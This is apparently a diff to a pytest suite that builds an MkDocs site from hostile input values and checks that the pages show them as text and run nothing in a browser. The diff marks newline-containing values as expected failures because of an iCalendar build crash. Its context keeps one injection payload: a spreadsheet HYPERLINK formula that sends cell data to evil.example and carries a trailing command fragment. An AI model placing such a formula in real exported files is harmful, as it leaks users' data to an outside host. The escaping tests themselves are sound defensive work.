@@ -59,6 +59,15 @@ PAYLOADS = {
     "spreadsheet-formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Open") @SUM(1+1)*cmd',
 }
 SLUGS = {name: re.sub(r"[^a-z0-9]+", "-", name) for name in PAYLOADS}
+# Open on main at 15:10 (issue 9): a line break in a case caption makes the
+# iCalendar builder raise, so mkdocs build crashes and no page carries these values.
+LINE_BREAK_CRASH = (
+    "issue 9: a value with a line break (here a case caption) crashes mkdocs build in the iCalendar builder"
+)
+PAYLOAD_PARAMS = [
+    pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=LINE_BREAK_CRASH)) if "\n" in payload else name
+    for name, payload in PAYLOADS.items()
+]
 HOSTILE_DAY, FOLLOW_UP_DAY = "2020-03-02", "2020-03-16"
 
 
@@ -191,6 +200,7 @@ def built_with(site: ValuesSite, name: str) -> None:
         pytest.fail(f"the site does not build with this value:\n{site.failure}", pytrace=False)
 
 
+@pytest.mark.xfail(strict=True, reason=LINE_BREAK_CRASH)
 def test_the_site_builds_with_every_hostile_value(values_site: ValuesSite) -> None:
     assert values_site.failure == "", "a value made MkDocs fail (shown at the end)"
 
@@ -251,7 +261,7 @@ def test_values_are_published_not_refused(values_site: ValuesSite) -> None:
     assert_none(values_site.built.refusals.by_file, "letters refused for values that only need escaping")
 
 
-@pytest.mark.parametrize("name", PAYLOADS)
+@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
 def test_no_active_content_in_the_built_pages(values_site: ValuesSite, name: str) -> None:
     built_with(values_site, name)
     found = {
@@ -268,7 +278,7 @@ def test_no_active_content_in_the_index_pages(values_site: ValuesSite) -> None:
     assert_none(found, "active content a value put on the page")
 
 
-@pytest.mark.parametrize("name", PAYLOADS)
+@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
 def test_values_are_shown_as_text(values_site: ValuesSite, name: str) -> None:
     built_with(values_site, name)
     payload = PAYLOADS[name]
@@ -303,7 +313,7 @@ def watched(browser, site_url: str):
 
 
 @pytest.mark.browser
-@pytest.mark.parametrize("name", PAYLOADS)
+@pytest.mark.parametrize("name", PAYLOAD_PARAMS)
 def test_pages_of_hostile_values_run_nothing_in_chromium(
     values_site: ValuesSite, watched, site_url: str, name: str
 ) -> None:
